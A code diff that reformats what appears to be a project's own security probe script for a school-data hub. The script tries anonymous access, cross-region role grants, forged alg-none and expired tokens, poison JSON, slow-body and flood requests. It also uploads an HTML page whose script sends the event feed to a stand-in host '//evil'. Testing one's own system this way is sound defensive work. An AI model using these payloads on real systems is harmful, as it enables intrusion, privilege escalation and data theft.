@@ -48,7 +48,11 @@ function say(line: string): void {
 }
 
 async function form(path: string, params: Record<string, string>): Promise<Record<string, unknown>> {
-  const res = await fetch(`${issuer}${path}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(params).toString() });
+  const res = await fetch(`${issuer}${path}`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: new URLSearchParams(params).toString(),
+  });
   return (await res.json()) as Record<string, unknown>;
 }
 
@@ -65,7 +69,11 @@ async function describe(res: Response, note?: (body: unknown, text: string) => s
   }
   const problem = body && typeof body === 'object' ? (body as { problems?: { rule?: string }[]; detail?: string; title?: string }) : undefined;
   const rule = problem?.problems?.[0]?.rule;
-  const detail = note ? note(body, text) : res.ok ? `${text.length} bytes` : `${rule ? `rule ${rule}` : ''}${problem?.detail ? ` ${problem.detail.slice(0, 90)}` : ''}`.trim();
+  const detail = note
+    ? note(body, text)
+    : res.ok
+      ? `${text.length} bytes`
+      : `${rule ? `rule ${rule}` : ''}${problem?.detail ? ` ${problem.detail.slice(0, 90)}` : ''}`.trim();
   return { status: String(res.status), detail };
 }
 
@@ -83,7 +91,8 @@ async function attack(kind: string, name: string, run: () => Promise<{ status: s
 // valid events of the contracts' factories, each with a fresh id and a time an hour ago
 const hourAgo = () => new Date(Date.now() - 3_600_000).toISOString().replace(/\.\d+Z$/, '+00:00');
 const event = (school: string) => anEvent(ResourceUploadedV1, {}, { subject: school, id: randomUUID(), time: hourAgo() });
-const schoolRegistered = (school: string, regionCode: string) => anEvent(SchoolRegisteredV1, { regionCode }, { subject: school, id: randomUUID(), time: hourAgo() });
+const schoolRegistered = (school: string, regionCode: string) =>
+  anEvent(SchoolRegisteredV1, { regionCode }, { subject: school, id: randomUUID(), time: hourAgo() });
 
 /** A request whose body never finishes: how long until the hub lets go? */
 function slowBody(target: string, headers: Record<string, string>, bytesDeclared: number, waitMs: number): Promise<{ status: string; detail: string }> {
@@ -97,10 +106,14 @@ function slowBody(target: string, headers: Record<string, string>, bytesDeclared
       req.destroy();
       resolve({ status, detail: `${detail} after ${((Date.now() - started) / 1000).toFixed(1)} s` });
     };
-    const req = httpRequest(target, { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': String(bytesDeclared), ...headers } }, (res) => {
-      res.resume();
-      done(String(res.statusCode), 'answered');
-    });
+    const req = httpRequest(
+      target,
+      { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': String(bytesDeclared), ...headers } },
+      (res) => {
+        res.resume();
+        done(String(res.statusCode), 'answered');
+      },
+    );
     req.on('error', (e) => done('closed', `socket ${e.message}`));
     req.write('[');
     const giveUp = setTimeout(() => done('open', `still open (we gave up)`), waitMs);
@@ -115,8 +128,12 @@ async function main(): Promise<void> {
   const haishu = await login('officer.haishu');
   const cio = await login('cio.school1');
   const teacher = await login('teacher.school1');
-  const system = (await form('/token', { grant_type: 'client_credentials', client_id: 'timetabling-system', client_secret: 'dev-timetabling-secret' }))['access_token'] as string;
-  const shortlived = (await form('/token', { grant_type: 'client_credentials', client_id: 'educube-shortlived', client_secret: 'dev-shortlived-secret' }))['access_token'] as string;
+  const system = (await form('/token', { grant_type: 'client_credentials', client_id: 'timetabling-system', client_secret: 'dev-timetabling-secret' }))[
+    'access_token'
+  ] as string;
+  const shortlived = (await form('/token', { grant_type: 'client_credentials', client_id: 'educube-shortlived', client_secret: 'dev-shortlived-secret' }))[
+    'access_token'
+  ] as string;
 
   // the schools: ours (海曙区 3302030001, the demo accounts' school) and one of another city
   const all = await fetch(`${identity}/v1/regions/330000/schools`, { headers: bearer(province.accessToken) });
@@ -137,16 +154,41 @@ async function main(): Promise<void> {
     .sign(privateKey);
 
   // ---- anonymous
-  await attack('anonymous', 'GET warehouse /v1/feed (every school\'s events)', async () => describe(await fetch(`${warehouse}/v1/feed?limit=5000`), (b, t) => (Array.isArray((b as { events?: unknown[] })?.events) ? `${(b as { events: unknown[] }).events.length} events, ${new Set(t.match(/"subject":"\d{10}"/g) ?? []).size} schools` : t.slice(0, 80))));
+  await attack('anonymous', "GET warehouse /v1/feed (every school's events)", async () =>
+    describe(await fetch(`${warehouse}/v1/feed?limit=5000`), (b, t) =>
+      Array.isArray((b as { events?: unknown[] })?.events)
+        ? `${(b as { events: unknown[] }).events.length} events, ${new Set(t.match(/"subject":"\d{10}"/g) ?? []).size} schools`
+        : t.slice(0, 80),
+    ),
+  );
   await attack('anonymous', 'GET warehouse /v1/dead-letters', async () => describe(await fetch(`${warehouse}/v1/dead-letters`)));
   await attack('anonymous', 'GET warehouse /v1/parked', async () => describe(await fetch(`${warehouse}/v1/parked`)));
   await attack('anonymous', 'GET warehouse /v1/ingestion/health', async () => describe(await fetch(`${warehouse}/v1/ingestion/health`)));
   await attack('anonymous', 'GET identity /v1/schools/:code', async () => describe(await fetch(`${identity}/v1/schools/${own}`)));
   await attack('anonymous', 'POST identity /v1/people/commands: grant itself province_officer', async () =>
-    describe(await fetch(`${identity}/v1/people/commands`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ commands: [{ type: 'GrantRole', data: { personId: 'mallory', role: 'province_officer', scope: { kind: 'region', regionCode: '330000' }, effectiveOn: '2026-09-01' } }] }) })),
+    describe(
+      await fetch(`${identity}/v1/people/commands`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({
+          commands: [
+            {
+              type: 'GrantRole',
+              data: { personId: 'mallory', role: 'province_officer', scope: { kind: 'region', regionCode: '330000' }, effectiveOn: '2026-09-01' },
+            },
+          ],
+        }),
+      }),
+    ),
   );
   await attack('anonymous', 'PUT identity personal data of a person', async () =>
-    describe(await fetch(`${identity}/v1/people/${encodeURIComponent('p-1')}/personal-data`, { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ fullName: '张三' }) })),
+    describe(
+      await fetch(`${identity}/v1/people/${encodeURIComponent('p-1')}/personal-data`, {
+        method: 'PUT',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ fullName: '张三' }),
+      }),
+    ),
   );
   await attack('anonymous', 'POST assessment attestation with a self-made x-acting-as header', async () =>
     describe(
@@ -158,38 +200,92 @@ async function main(): Promise<void> {
     ),
   );
   await attack('anonymous', 'GET assessment score sheet', async () => describe(await fetch(`${assessment}/v1/schools/${own}/standards/zhejiang/sheet`)));
-  await attack('anonymous', 'GET gateway /api/status: does it name schools?', async () => describe(await fetch(`${gateway}/api/status`), (_b, t) => `${new Set(t.match(/\b33\d{8}\b/g) ?? []).size} school codes named`));
+  await attack('anonymous', 'GET gateway /api/status: does it name schools?', async () =>
+    describe(await fetch(`${gateway}/api/status`), (_b, t) => `${new Set(t.match(/\b33\d{8}\b/g) ?? []).size} school codes named`),
+  );
 
   // ---- cross-region: the 海曙区 district officer reaches for another city
-  await attack('cross-region', 'district officer: identity school of another city', async () => describe(await fetch(`${identity}/v1/schools/${foreign}`, { headers: bearer(haishu.accessToken) })));
-  await attack('cross-region', "district officer: another city's dead letters", async () => describe(await fetch(`${warehouse}/v1/dead-letters?school=${foreign}`, { headers: bearer(haishu.accessToken) }), (b) => `${(b as { count?: number })?.count ?? '–'} letters`));
-  await attack('cross-region', "district officer: another city's score sheet", async () => describe(await fetch(`${assessment}/v1/schools/${foreign}/standards/zhejiang/sheet`, { headers: bearer(haishu.accessToken) })));
+  await attack('cross-region', 'district officer: identity school of another city', async () =>
+    describe(await fetch(`${identity}/v1/schools/${foreign}`, { headers: bearer(haishu.accessToken) })),
+  );
+  await attack('cross-region', "district officer: another city's dead letters", async () =>
+    describe(
+      await fetch(`${warehouse}/v1/dead-letters?school=${foreign}`, { headers: bearer(haishu.accessToken) }),
+      (b) => `${(b as { count?: number })?.count ?? '–'} letters`,
+    ),
+  );
+  await attack('cross-region', "district officer: another city's score sheet", async () =>
+    describe(await fetch(`${assessment}/v1/schools/${foreign}/standards/zhejiang/sheet`, { headers: bearer(haishu.accessToken) })),
+  );
   await attack('cross-region', 'district officer: grants a role over a school of another city', async () =>
-    describe(await fetch(`${identity}/v1/people/commands`, { method: 'POST', headers: { ...bearer(haishu.accessToken), 'content-type': 'application/json' }, body: JSON.stringify({ commands: [{ type: 'GrantRole', data: { personId: 'p-x', role: 'cio', scope: { kind: 'schools', schoolCodes: [foreign] }, effectiveOn: '2026-09-01' } }] }) })),
+    describe(
+      await fetch(`${identity}/v1/people/commands`, {
+        method: 'POST',
+        headers: { ...bearer(haishu.accessToken), 'content-type': 'application/json' },
+        body: JSON.stringify({
+          commands: [
+            { type: 'GrantRole', data: { personId: 'p-x', role: 'cio', scope: { kind: 'schools', schoolCodes: [foreign] }, effectiveOn: '2026-09-01' } },
+          ],
+        }),
+      }),
+    ),
   );
   await attack('cross-region', "teacher resolves another city's staff id", async () =>
-    describe(await fetch(`${identity}/v1/id-links/resolve`, { method: 'POST', headers: { ...bearer(teacher.accessToken), 'content-type': 'application/json' }, body: JSON.stringify({ refs: [{ system: 'timetabling', localId: `${foreign}-T0001` }] }) }), (b, t) => (t.includes('personId') ? 'resolved a person id' : `${JSON.stringify(b).slice(0, 80)}`)),
+    describe(
+      await fetch(`${identity}/v1/id-links/resolve`, {
+        method: 'POST',
+        headers: { ...bearer(teacher.accessToken), 'content-type': 'application/json' },
+        body: JSON.stringify({ refs: [{ system: 'timetabling', localId: `${foreign}-T0001` }] }),
+      }),
+      (b, t) => (t.includes('personId') ? 'resolved a person id' : `${JSON.stringify(b).slice(0, 80)}`),
+    ),
   );
 
   // ---- forged, expired, wrong kind of token
-  await attack('forged', 'province-officer token signed by another key → identity', async () => describe(await fetch(`${identity}/v1/regions/330000/schools`, { headers: bearer(forged) })));
+  await attack('forged', 'province-officer token signed by another key → identity', async () =>
+    describe(await fetch(`${identity}/v1/regions/330000/schools`, { headers: bearer(forged) })),
+  );
   await attack('forged', 'alg none token → warehouse feed', async () => {
     const none = `${Buffer.from(JSON.stringify({ alg: 'none', typ: 'at+jwt' })).toString('base64url')}.${Buffer.from(JSON.stringify({ iss: issuer, sub: 'x', aud: 'educube-warehouse', realm_access: { roles: ['hub_service'] }, exp: 9_999_999_999, iat: 1 })).toString('base64url')}.`;
     return describe(await fetch(`${warehouse}/v1/feed`, { headers: bearer(none) }));
   });
   await attack('expired', 'school-system token 2 s past its expiry → POST events', async () => {
     await new Promise((r) => setTimeout(r, 8_000));
-    return describe(await fetch(`${warehouse}/v1/events`, { method: 'POST', headers: { ...bearer(shortlived), 'content-type': 'application/json' }, body: JSON.stringify([event(own)]) }));
+    return describe(
+      await fetch(`${warehouse}/v1/events`, {
+        method: 'POST',
+        headers: { ...bearer(shortlived), 'content-type': 'application/json' },
+        body: JSON.stringify([event(own)]),
+      }),
+    );
   });
-  await attack('ID token', "an officer's ID token as a bearer → identity", async () => describe(await fetch(`${identity}/v1/regions/330200/schools`, { headers: bearer(province.idToken) })));
-  await attack('wrong audience', 'school-system (ingest) token → identity region list', async () => describe(await fetch(`${identity}/v1/regions/330000/schools`, { headers: bearer(system) })));
-  await attack('wrong audience', 'school-system (ingest) token → warehouse feed', async () => describe(await fetch(`${warehouse}/v1/feed`, { headers: bearer(system) })));
+  await attack('ID token', "an officer's ID token as a bearer → identity", async () =>
+    describe(await fetch(`${identity}/v1/regions/330200/schools`, { headers: bearer(province.idToken) })),
+  );
+  await attack('wrong audience', 'school-system (ingest) token → identity region list', async () =>
+    describe(await fetch(`${identity}/v1/regions/330000/schools`, { headers: bearer(system) })),
+  );
+  await attack('wrong audience', 'school-system (ingest) token → warehouse feed', async () =>
+    describe(await fetch(`${warehouse}/v1/feed`, { headers: bearer(system) })),
+  );
 
   // ---- cross-school ingest, organisation events
   await attack('cross-school', "school system sends an event of another city's school", async () =>
-    describe(await fetch(`${warehouse}/v1/events`, { method: 'POST', headers: { ...bearer(system), 'content-type': 'application/json' }, body: JSON.stringify([event(foreign)]) }), (b) => JSON.stringify((b as { results?: unknown[] })?.results?.[0] ?? b).slice(0, 110)),
+    describe(
+      await fetch(`${warehouse}/v1/events`, {
+        method: 'POST',
+        headers: { ...bearer(system), 'content-type': 'application/json' },
+        body: JSON.stringify([event(foreign)]),
+      }),
+      (b) => JSON.stringify((b as { results?: unknown[] })?.results?.[0] ?? b).slice(0, 110),
+    ),
   );
-  await attack('cross-school', 'the dead letter of that refusal: whose school is it filed under?', async () => describe(await fetch(`${warehouse}/v1/dead-letters?limit=1`, { headers: bearer(system) }), (b) => `filed under ${JSON.stringify((b as { deadLetters?: { schoolCode?: string }[] })?.deadLetters?.[0]?.schoolCode ?? null)}`));
+  await attack('cross-school', 'the dead letter of that refusal: whose school is it filed under?', async () =>
+    describe(
+      await fetch(`${warehouse}/v1/dead-letters?limit=1`, { headers: bearer(system) }),
+      (b) => `filed under ${JSON.stringify((b as { deadLetters?: { schoolCode?: string }[] })?.deadLetters?.[0]?.schoolCode ?? null)}`,
+    ),
+  );
   await attack('cross-school', 'school system sends SchoolRegistered moving its school to another city', async () =>
     describe(
       await fetch(`${warehouse}/v1/events`, {
@@ -204,7 +300,9 @@ async function main(): Promise<void> {
   // ---- poison input
   const poison = async (name: string, raw: string) =>
     attack('poison', name, async () =>
-      describe(await fetch(`${warehouse}/v1/events`, { method: 'POST', headers: { ...bearer(system), 'content-type': 'application/json' }, body: raw }), (b) => JSON.stringify((b as { summary?: unknown })?.summary ?? b).slice(0, 110)),
+      describe(await fetch(`${warehouse}/v1/events`, { method: 'POST', headers: { ...bearer(system), 'content-type': 'application/json' }, body: raw }), (b) =>
+        JSON.stringify((b as { summary?: unknown })?.summary ?? b).slice(0, 110),
+      ),
     );
   // the first event's resource id is poisoned; the second stays good
   const poisoned = (value: string) => {
@@ -214,34 +312,70 @@ async function main(): Promise<void> {
   await poison('a string with \\u0000, beside a good event', poisoned('"a\\u0000b"'));
   await poison('a string with a lone surrogate \\ud800, beside a good event', poisoned('"a\\ud800b"'));
   await poison('JSON nested 10,000 deep', `${'['.repeat(10_000)}${']'.repeat(10_000)}`);
-  await attack('slow body', 'declares 1 MB, sends 1 byte, then nothing (token sent)', async () => slowBody(`${warehouse}/v1/events`, bearer(system), 1_000_000, 60_000));
+  await attack('slow body', 'declares 1 MB, sends 1 byte, then nothing (token sent)', async () =>
+    slowBody(`${warehouse}/v1/events`, bearer(system), 1_000_000, 60_000),
+  );
   await attack('slow body', 'anonymous 5 MB upload: answered before the body?', async () => slowBody(`${warehouse}/v1/events`, {}, 5 * 1024 * 1024, 10_000));
 
   // ---- identity
-  await attack('prototype keys', 'GET identity /v1/people/constructor (province officer)', async () => describe(await fetch(`${identity}/v1/people/constructor`, { headers: bearer(province.accessToken) })));
+  await attack('prototype keys', 'GET identity /v1/people/constructor (province officer)', async () =>
+    describe(await fetch(`${identity}/v1/people/constructor`, { headers: bearer(province.accessToken) })),
+  );
   await attack('prototype keys', 'PUT identity /v1/people/__proto__/personal-data', async () =>
-    describe(await fetch(`${identity}/v1/people/__proto__/personal-data`, { method: 'PUT', headers: { ...bearer(province.accessToken), 'content-type': 'application/json' }, body: JSON.stringify({ fullName: '张三' }) })),
+    describe(
+      await fetch(`${identity}/v1/people/__proto__/personal-data`, {
+        method: 'PUT',
+        headers: { ...bearer(province.accessToken), 'content-type': 'application/json' },
+        body: JSON.stringify({ fullName: '张三' }),
+      }),
+    ),
   );
   await attack('self-grant', 'district officer grants themselves province_officer', async () =>
-    describe(await fetch(`${identity}/v1/people/commands`, { method: 'POST', headers: { ...bearer(haishu.accessToken), 'content-type': 'application/json' }, body: JSON.stringify({ commands: [{ type: 'GrantRole', data: { personId: 'officer.haishu', role: 'province_officer', scope: { kind: 'region', regionCode: '330000' }, effectiveOn: '2026-09-01' } }] }) })),
+    describe(
+      await fetch(`${identity}/v1/people/commands`, {
+        method: 'POST',
+        headers: { ...bearer(haishu.accessToken), 'content-type': 'application/json' },
+        body: JSON.stringify({
+          commands: [
+            {
+              type: 'GrantRole',
+              data: { personId: 'officer.haishu', role: 'province_officer', scope: { kind: 'region', regionCode: '330000' }, effectiveOn: '2026-09-01' },
+            },
+          ],
+        }),
+      }),
+    ),
   );
 
   // ---- documents
   const html = Buffer.from('<!doctype html><script>fetch("/v1/feed").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))</script>');
   let htmlSha = '';
   await attack('document type', 'CIO uploads an HTML page as evidence (text/html)', async () => {
-    const res = await fetch(`${assessment}/v1/schools/${own}/documents?name=x.html`, { method: 'POST', headers: { ...bearer(cio.accessToken), 'content-type': 'text/html' }, body: html });
+    const res = await fetch(`${assessment}/v1/schools/${own}/documents?name=x.html`, {
+      method: 'POST',
+      headers: { ...bearer(cio.accessToken), 'content-type': 'text/html' },
+      body: html,
+    });
     if (res.ok) htmlSha = sha256Hex(html);
     return describe(res);
   });
   await attack('document type', 'CIO uploads the HTML page declared as application/pdf', async () =>
-    describe(await fetch(`${assessment}/v1/schools/${own}/documents?name=x.pdf`, { method: 'POST', headers: { ...bearer(cio.accessToken), 'content-type': 'application/pdf' }, body: html })),
+    describe(
+      await fetch(`${assessment}/v1/schools/${own}/documents?name=x.pdf`, {
+        method: 'POST',
+        headers: { ...bearer(cio.accessToken), 'content-type': 'application/pdf' },
+        body: html,
+      }),
+    ),
   );
   await attack('document type', 'a teacher opens the uploaded HTML: how is it served?', async () => {
     if (!htmlSha) return { status: '–', detail: 'nothing was stored to open' };
     let res = await fetch(`${assessment}/v1/schools/${own}/documents/${htmlSha}`, { headers: bearer(teacher.accessToken) });
     if (res.status === 404) res = await fetch(`${assessment}/v1/documents/${htmlSha}`, { headers: bearer(teacher.accessToken) });
-    return { status: String(res.status), detail: `content-type ${res.headers.get('content-type')}, nosniff ${res.headers.get('x-content-type-options') ?? 'absent'}, disposition ${res.headers.get('content-disposition') ?? 'inline'}` };
+    return {
+      status: String(res.status),
+      detail: `content-type ${res.headers.get('content-type')}, nosniff ${res.headers.get('x-content-type-options') ?? 'absent'}, disposition ${res.headers.get('content-disposition') ?? 'inline'}`,
+    };
   });
 
   // ---- flood
@@ -259,7 +393,9 @@ async function main(): Promise<void> {
     };
     await Promise.all(Array.from({ length: 16 }, one));
     const seconds = ((Date.now() - started) / 1000).toFixed(1);
-    return limited ? { status: '429', detail: `after ${sent} requests in ${seconds} s, Retry-After ${limited.headers.get('retry-after')} s` } : { status: 'none', detail: `${sent} requests in ${seconds} s, none refused` };
+    return limited
+      ? { status: '429', detail: `after ${sent} requests in ${seconds} s, Retry-After ${limited.headers.get('retry-after')} s` }
+      : { status: 'none', detail: `${sent} requests in ${seconds} s, none refused` };
   });
 
   say('');
